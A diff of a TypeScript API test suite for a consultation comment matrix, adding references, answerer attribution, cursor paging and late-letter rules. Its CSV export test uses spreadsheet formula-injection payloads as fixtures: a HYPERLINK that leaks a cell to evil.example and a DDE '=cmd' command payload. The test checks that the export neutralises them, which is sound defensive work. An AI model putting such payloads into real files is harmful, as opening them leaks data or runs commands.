@@ -16,6 +16,8 @@ function testClock(start: string) {
 }
 
 const T0 = '2027-01-10T09:00:00.000Z';
+/** the actor the test API's coordinator token names (test/helpers/http.ts) */
+const COORDINATOR_ACTOR = { role: 'coordinator', id: 'Gender Office coordinator' };
 
 interface Invitee { organisation: string; kind: string; contacts: { name: string; email: string }[]; language: string; endorser?: boolean }
 
@@ -43,7 +45,7 @@ async function submit(api: Api, id: string, body: Record<string, unknown>, heade
 function row(overrides: Record<string, unknown>) {
   return {
     sectionHeading: null, organisation: null, proposedText: null, status: 'awaiting-answer',
-    disposition: null, response: null, answeredAt: null, earlierAnswers: [], retraction: null, ...overrides,
+    disposition: null, response: null, answeredAt: null, answeredBy: null, earlierAnswers: [], retraction: null, ...overrides,
   };
 }
 
@@ -74,23 +76,25 @@ t.test('prefersCsv: text/csv only when the client prefers it; JSON is the defaul
   for (const [accept, expected] of cases) t.equal(prefersCsv(accept), expected, String(accept));
 });
 
-t.test('POST /comments records a comment on a stakeholder\'s behalf: 201 with commentId, revision, Location; the matrix shows it', async (t) => {
-  const { api, id, wmn, pri } = await setUp(t);
+t.test('POST /comments records a comment on a stakeholder\'s behalf: 201 with commentId, ref, revision, Location; the matrix shows it', async (t) => {
+  const { api, id, wmn, pri, time } = await setUp(t);
   const res = await api.call({
     url: `/consultations/${id}/comments`,
     body: { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: 'Name a target for women in mediation teams.', proposedText: 'At least 30% women by 2029.', channel: 'api' },
   });
   t.equal(res.statusCode, 201);
   const { commentId, revision } = res.json() as { commentId: string; revision: number };
-  t.equal(revision, 4);
+  t.strictSame(res.json(), { commentId, ref: 'C-1', revision: 4 });
   t.equal(res.headers.location, `/consultations/${id}/comments/${commentId}`);
   t.equal(res.headers.etag, '"4"');
+  time.set('2027-01-12T09:00:00.000Z');
   const said = await api.call({
     url: `/consultations/${id}/comments`,
-    body: { stakeholderId: pri, draftVersion: 1, text: 'The plan needs a monitoring framework.', channel: 'meeting', madeAt: '2027-01-08T10:00:00+02:00' },
+    body: { stakeholderId: pri, draftVersion: 1, text: 'The plan needs a monitoring framework.', channel: 'meeting', madeAt: '2027-01-11T10:00:00+02:00' },
   });
   t.equal(said.statusCode, 201, 'sectionKey omitted: on the whole draft');
   const saidId = said.json().commentId as string;
+  t.equal(said.json().ref, 'C-2');
 
   const matrix = await api.call({ url: `/consultations/${id}/comments`, as: 'auditor' });
   t.equal(matrix.statusCode, 200);
@@ -100,15 +104,16 @@ t.test('POST /comments records a comment on a stakeholder\'s behalf: 201 with co
     consultationId: id,
     comments: [
       row({
-        commentId, draftVersion: 1, sectionKey: 's1', sectionHeading: 'Participation', stakeholderId: wmn, organisation: WMN.organisation,
+        commentId, ref: 'C-1', draftVersion: 1, sectionKey: 's1', sectionHeading: 'Participation', stakeholderId: wmn, organisation: WMN.organisation,
         text: 'Name a target for women in mediation teams.', proposedText: 'At least 30% women by 2029.', channel: 'api', madeAt: T0, submittedAt: T0,
       }),
       row({
-        commentId: saidId, draftVersion: 1, sectionKey: null, stakeholderId: pri, organisation: PRI.organisation,
-        text: 'The plan needs a monitoring framework.', channel: 'meeting', madeAt: '2027-01-08T10:00:00+02:00', submittedAt: T0,
+        commentId: saidId, ref: 'C-2', draftVersion: 1, sectionKey: null, stakeholderId: pri, organisation: PRI.organisation,
+        text: 'The plan needs a monitoring framework.', channel: 'meeting', madeAt: '2027-01-11T10:00:00+02:00', submittedAt: '2027-01-12T09:00:00.000Z',
       }),
     ],
     counts: { total: 2, answered: 0, awaitingAnswer: 2, retracted: 0 },
+    next: null,
   });
   const one = await api.call({ url: `/consultations/${id}/comments/${saidId}` });
   t.equal(one.statusCode, 200, 'the Location of a comment is readable');
@@ -177,10 +182,11 @@ t.test('answering again revises the answer: the matrix shows the latest with the
 
   const matrix = (await api.call({ url: `/consultations/${id}/comments` })).json();
   t.strictSame(matrix.comments[0], row({
-    commentId: cid, draftVersion: 1, sectionKey: 's2', sectionHeading: 'Protection', stakeholderId: wmn, organisation: WMN.organisation,
+    commentId: cid, ref: 'C-1', draftVersion: 1, sectionKey: 's2', sectionHeading: 'Protection', stakeholderId: wmn, organisation: WMN.organisation,
     text: 'Add a survivor-centred approach.', channel: 'api', madeAt: T0, submittedAt: T0,
     status: 'answered', disposition: 'accepted', response: 'Section 2 and the annex now say it.', answeredAt: '2027-01-14T08:00:00.000Z',
-    earlierAnswers: [{ disposition: 'partially-accepted', response: 'Added to section 2; the annex follows.', answeredAt: '2027-01-12T08:00:00.000Z' }],
+    answeredBy: COORDINATOR_ACTOR,
+    earlierAnswers: [{ disposition: 'partially-accepted', response: 'Added to section 2; the annex follows.', answeredAt: '2027-01-12T08:00:00.000Z', answeredBy: COORDINATOR_ACTOR }],
   }));
   t.strictSame(matrix.counts, { total: 1, answered: 1, awaitingAnswer: 0, retracted: 0 });
 });
@@ -188,7 +194,7 @@ t.test('answering again revises the answer: the matrix shows the latest with the
 t.test('a retracted comment stays in the matrix as retracted, is not counted, and can be neither answered nor retracted again', async (t) => {
   const { api, id, wmn, pri, time } = await setUp(t);
   const kept = await submit(api, id, { stakeholderId: pri, draftVersion: 1, sectionKey: 's1', text: 'Keep this one', channel: 'api' });
-  const wrong = await submit(api, id, { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: 'Said by someone else', channel: 'meeting', madeAt: '2027-01-09T15:00:00Z' });
+  const wrong = await submit(api, id, { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: 'Said by someone else', channel: 'meeting', madeAt: T0 });
   await api.call({ url: `/consultations/${id}/comments/${wrong}/answer`, body: { disposition: 'noted', response: 'Noted.' } });
   time.set('2027-01-11T10:00:00.000Z');
   const res = await api.call({ url: `/consultations/${id}/comments/${wrong}/retract`, body: { reason: 'Recorded on the wrong stakeholder' } });
@@ -202,6 +208,7 @@ t.test('a retracted comment stays in the matrix as retracted, is not counted, an
   const answer = await api.call({ url: `/consultations/${id}/comments/${wrong}/answer`, body: { disposition: 'accepted', response: 'Too late' } });
   t.equal(answer.statusCode, 409);
   t.equal(answer.json().code, 'COMMENT_RETRACTED');
+  t.strictSame(answer.json().details, { commentId: wrong, ref: 'C-2' }, 'the error names the comment by id and reference');
   const again = await api.call({ url: `/consultations/${id}/comments/${wrong}/retract`, body: { reason: 'Twice' } });
   t.equal(again.statusCode, 409);
   t.equal(again.json().code, 'COMMENT_RETRACTED');
@@ -351,8 +358,8 @@ t.test('Accept: text/csv exports the filtered matrix as CSV; formula cells are n
   ];
   const ids: string[] = [];
   for (const text of texts) ids.push(await submit(api, id, { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text, channel: 'api' }));
-  const whole = await submit(api, id, { stakeholderId: evil, draftVersion: 1, text: 'Whole draft, plain', proposedText: '=2+2', channel: 'letter', madeAt: '2027-01-05T12:00:00Z' });
   time.set('2027-01-11T09:00:00.000Z');
+  const whole = await submit(api, id, { stakeholderId: evil, draftVersion: 1, text: 'Whole draft, plain', proposedText: '=2+2', channel: 'letter', madeAt: '2027-01-10T12:00:00Z' });
   await api.call({ url: `/consultations/${id}/comments/${ids[0]}/answer`, body: { disposition: 'rejected', response: 'Links are not accepted.' } });
   await api.call({ url: `/consultations/${id}/comments/${ids[0]}/answer`, body: { disposition: 'rejected', response: '-Links are not accepted, twice.' } });
   await api.call({ url: `/consultations/${id}/comments/${ids[3]}/retract`, body: { reason: '+spam' } });
@@ -363,31 +370,33 @@ t.test('Accept: text/csv exports the filtered matrix as CSV; formula cells are n
   t.equal(res.headers['content-disposition'], `attachment; filename="comments-${id}.csv"`);
   t.equal(res.headers.vary, 'Accept');
   t.equal(res.headers.etag, 'W/"14-csv"');
-  t.ok(res.body.startsWith('\uFEFF"Comment ID",'), 'a UTF-8 BOM, then every cell quoted');
+  t.ok(res.body.startsWith('\uFEFF"Reference",'), 'a UTF-8 BOM, then every cell quoted');
   t.ok(res.body.endsWith('\r\n'), 'CRLF record ends');
   const records = parse(res.body, { bom: true }) as string[][];
   t.strictSame(records[0], [
-    'Comment ID', 'Draft version', 'Section key', 'Section', 'Stakeholder ID', 'Organisation', 'Channel', 'Made at', 'Submitted at',
-    'Comment', 'Proposed text', 'Status', 'Disposition', 'Response', 'Answered at', 'Earlier answers', 'Retraction reason', 'Retracted at',
+    'Reference', 'Comment ID', 'Draft version', 'Section key', 'Section', 'Stakeholder ID', 'Organisation', 'Channel', 'Made at', 'Submitted at',
+    'Comment', 'Proposed text', 'Status', 'Disposition', 'Response', 'Answered at', 'Answered by', 'Earlier answers', 'Retraction reason', 'Retracted at',
   ]);
-  const s1 = (cid: string, text: string, rest: string[] = ['', 'awaiting-answer', '', '', '', '0', '', '']) =>
-    [cid, '1', 's1', 'Participation', wmn, WMN.organisation, 'api', T0, T0, text, ...rest];
+  const s1 = (n: number, text: string, rest: string[] = ['', 'awaiting-answer', '', '', '', '', '', '', '']) =>
+    [`C-${n + 1}`, ids[n]!, '1', 's1', 'Participation', wmn, WMN.organisation, 'api', T0, T0, text, ...rest];
   t.strictSame(records.slice(1), [
-    s1(ids[0]!, '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for the annex")',
-      ['', 'answered', 'rejected', '\'-Links are not accepted, twice.', '2027-01-11T09:00:00.000Z', '1', '', '']),
-    s1(ids[1]!, '\'+1 more seat for women at the table'),
-    s1(ids[2]!, '\'-2 percent is not a target'),
-    s1(ids[3]!, '\'@SUM(A1:A9)', ['', 'retracted', '', '', '', '0', '\'+spam', '2027-01-11T09:00:00.000Z']),
-    s1(ids[4]!, '\'=1+1'),
-    s1(ids[5]!, 'Say "women, peace and security",\nnot "gender",\nthroughout'), // CRLF arrives as LF
-    [whole, '1', '', 'Whole draft', evil, '\'=cmd|\' /C calc\'!A0', 'letter', '2027-01-05T12:00:00Z', T0, 'Whole draft, plain', '\'=2+2',
-      'awaiting-answer', '', '', '', '0', '', ''],
+    s1(0, '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for the annex")', [
+      '', 'answered', 'rejected', '\'-Links are not accepted, twice.', '2027-01-11T09:00:00.000Z', 'Gender Office coordinator (coordinator)',
+      '1. 2027-01-11T09:00:00.000Z by Gender Office coordinator (coordinator), rejected:\nLinks are not accepted.', '', '',
+    ]),
+    s1(1, '\'+1 more seat for women at the table'),
+    s1(2, '\'-2 percent is not a target'),
+    s1(3, '\'@SUM(A1:A9)', ['', 'retracted', '', '', '', '', '', '\'+spam', '2027-01-11T09:00:00.000Z']),
+    s1(4, '\'=1+1'),
+    s1(5, 'Say "women, peace and security",\nnot "gender",\nthroughout'), // CRLF arrives as LF
+    ['C-7', whole, '1', '', 'Whole draft', evil, '\'=cmd|\' /C calc\'!A0', 'letter', '2027-01-10T12:00:00Z', '2027-01-11T09:00:00.000Z', 'Whole draft, plain', '\'=2+2',
+      'awaiting-answer', '', '', '', '', '', '', ''],
   ]);
   t.match(res.body, /"Say ""women, peace and security"",\nnot ""gender"",\nthroughout"/, 'quotes doubled, the cell quoted');
 
   const filtered = await api.call({ url: `/consultations/${id}/comments?section=whole`, headers: { accept: 'text/csv;q=0.9, application/json;q=0.5' } });
   const filteredRows = parse(filtered.body, { bom: true }) as string[][];
-  t.strictSame(filteredRows.map((r) => r[0]), ['Comment ID', whole], 'the filters apply to the CSV');
+  t.strictSame(filteredRows.map((r) => r[1]), ['Comment ID', whole], 'the filters apply to the CSV');
   const empty = parse((await api.call({ url: `/consultations/${id}/comments?stakeholder=nobody`, headers: { accept: 'text/csv' } })).body, { bom: true }) as string[][];
   t.equal(empty.length, 1, 'the header row alone');
 
@@ -413,4 +422,88 @@ t.test('the generated OpenAPI documents the comment routes with their bodies and
   t.strictSame(Object.keys(answerBody.properties).sort(), ['disposition', 'response'], 'the path parameter is not in the body');
   const retractBody = paths['/consultations/{id}/comments/{cid}/retract']!['post']!.requestBody!.content['application/json']!.schema;
   t.strictSame(Object.keys(retractBody.properties), ['reason']);
+});
+
+t.test('the matrix pages: ?limit= and ?cursor= with the filters, answered with next; the counts are the filtered matrix\'s on every page; CSV is whole', async (t) => {
+  const { api, id, wmn, pri } = await setUp(t);
+  const mine: string[] = [];
+  for (let i = 0; i < 7; i++) {
+    mine.push(await submit(api, id, { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: `WMN comment ${i + 1}`, channel: 'api' }));
+    await submit(api, id, { stakeholderId: pri, draftVersion: 1, sectionKey: 's2', text: `PRI comment ${i + 1}`, channel: 'api' });
+  }
+  await api.call({ url: `/consultations/${id}/comments/${mine[6]}/answer`, body: { disposition: 'noted', response: 'Thank you.' } });
+
+  const pages: string[][] = [];
+  const refs: string[] = [];
+  let url = `/consultations/${id}/comments?stakeholder=${wmn}&limit=3`;
+  for (;;) {
+    const res = await api.call({ url });
+    t.equal(res.statusCode, 200, url);
+    const body = res.json() as { comments: { commentId: string; ref: string }[]; counts: unknown; next: string | null };
+    t.strictSame(body.counts, { total: 7, answered: 1, awaitingAnswer: 6, retracted: 0 }, 'the filtered matrix\'s counts, on every page');
+    pages.push(body.comments.map((c) => c.commentId));
+    refs.push(...body.comments.map((c) => c.ref));
+    if (body.next === null) break;
+    t.match(body.next, /^[A-Za-z0-9_-]+$/, 'an opaque, URL-safe cursor');
+    url = `/consultations/${id}/comments?stakeholder=${wmn}&limit=3&cursor=${body.next}`;
+  }
+  t.strictSame(pages, [mine.slice(0, 3), mine.slice(3, 6), mine.slice(6)], 'three pages of WMN\'s comments only');
+  t.strictSame(refs, ['C-1', 'C-3', 'C-5', 'C-7', 'C-9', 'C-11', 'C-13'], 'references count every comment, whoever made it');
+
+  const unfiltered = (await api.call({ url: `/consultations/${id}/comments?limit=10` })).json();
+  t.equal(unfiltered.comments.length, 10);
+  t.strictSame(unfiltered.counts, { total: 14, answered: 1, awaitingAnswer: 13, retracted: 0 });
+  const rest = (await api.call({ url: `/consultations/${id}/comments?limit=10&cursor=${unfiltered.next}` })).json();
+  t.strictSame([rest.comments.length, rest.next], [4, null]);
+  const byDefault = (await api.call({ url: `/consultations/${id}/comments` })).json();
+  t.strictSame([byDefault.comments.length, byDefault.next], [14, null], 'default limit 500: one page here');
+  const both = (await api.call({ url: `/consultations/${id}/comments?status=awaiting-answer&section=s1&limit=4` })).json();
+  t.strictSame(both.comments.map((c: { commentId: string }) => c.commentId), mine.slice(0, 4));
+  const both2 = (await api.call({ url: `/consultations/${id}/comments?status=awaiting-answer&section=s1&limit=4&cursor=${both.next}` })).json();
+  t.strictSame([both2.comments.map((c: { commentId: string }) => c.commentId), both2.next], [mine.slice(4, 6), null], 'the answered 7th is filtered out');
+
+  const csv = await api.call({ url: `/consultations/${id}/comments?limit=2&stakeholder=${wmn}`, headers: { accept: 'text/csv' } });
+  t.equal((parse(csv.body, { bom: true }) as string[][]).length, 8, 'CSV: the header and every filtered row, unpaged');
+});
+
+t.test('paging input: a cursor this view did not give out, or a limit outside 1…1000, is 400 INVALID_INPUT naming the parameter', async (t) => {
+  const { api, id, wmn } = await setUp(t);
+  await submit(api, id, { stakeholderId: wmn, draftVersion: 1, text: 'One', channel: 'api' });
+  const forged = Buffer.from(JSON.stringify({ order: 1 })).toString('base64url');
+  for (const query of ['cursor=not-a-cursor!', 'cursor=', `cursor=${forged}`, `cursor=${'A'.repeat(401)}`, 'cursor=e30', 'limit=0', 'limit=1001', 'limit=2.5', 'limit=ten']) {
+    const res = await api.call({ url: `/consultations/${id}/comments?${query}` });
+    t.equal(res.statusCode, 400, query);
+    t.equal(res.json().code, 'INVALID_INPUT', query);
+    t.strictSame(res.json().errors.map((e: { path: string }) => e.path), [`querystring.${query.split('=')[0]}`], query);
+  }
+  t.equal((await api.call({ url: `/consultations/${id}/comments?limit=1000` })).statusCode, 200, '1000 is allowed');
+});
+
+t.test('a late letter over HTTP: on the version it was made on, judged by madeAt; before the version was published 422 MADE_AT_BEFORE_DRAFT', async (t) => {
+  const { api, id, wmn, time } = await setUp(t);
+  time.set('2027-02-01T09:00:00.000Z');
+  t.equal((await api.call({ url: `/consultations/${id}/drafts`, body: DRAFT_BODY })).statusCode, 201, 'v2');
+  time.set('2027-02-03T09:00:00.000Z');
+  const late = await api.call({
+    url: `/consultations/${id}/comments`,
+    body: { stakeholderId: wmn, draftVersion: 1, sectionKey: 's1', text: 'Our letter of 20 January', channel: 'letter', madeAt: '2027-01-20T10:00:00+01:00' },
+  });
+  t.equal(late.statusCode, 201, late.body);
+  t.equal(late.json().ref, 'C-1');
+  const row = (await api.call({ url: `/consultations/${id}/comments/${late.json().commentId}` })).json();
+  t.strictSame([row.draftVersion, row.channel, row.madeAt, row.submittedAt], [1, 'letter', '2027-01-20T10:00:00+01:00', '2027-02-03T09:00:00.000Z']);
+  const tooEarly = await api.call({
+    url: `/consultations/${id}/comments`,
+    body: { stakeholderId: wmn, draftVersion: 2, text: 'Dated before v2', channel: 'letter', madeAt: '2027-01-25T10:00:00Z' },
+  });
+  t.equal(tooEarly.statusCode, 422);
+  t.equal(tooEarly.json().code, 'MADE_AT_BEFORE_DRAFT');
+  t.strictSame(tooEarly.json().details, { draftVersion: 2, madeAt: '2027-01-25T10:00:00Z', publishedAt: '2027-02-01T09:00:00.000Z', deadline: DRAFT_BODY.commentDeadline });
+  const beforeOpening = await api.call({
+    url: `/consultations/${id}/comments`,
+    body: { stakeholderId: wmn, draftVersion: 1, text: 'Dated before the consultation opened', channel: 'meeting', madeAt: '2027-01-02T10:00:00Z' },
+  });
+  t.equal(beforeOpening.json().code, 'MADE_AT_BEFORE_DRAFT');
+  const online = await api.call({ url: `/consultations/${id}/comments`, body: { stakeholderId: wmn, draftVersion: 1, text: 'Online, on v1', channel: 'api' } });
+  t.equal(online.json().code, 'DRAFT_NOT_LATEST', 'an online comment is still on the latest version only');
 });
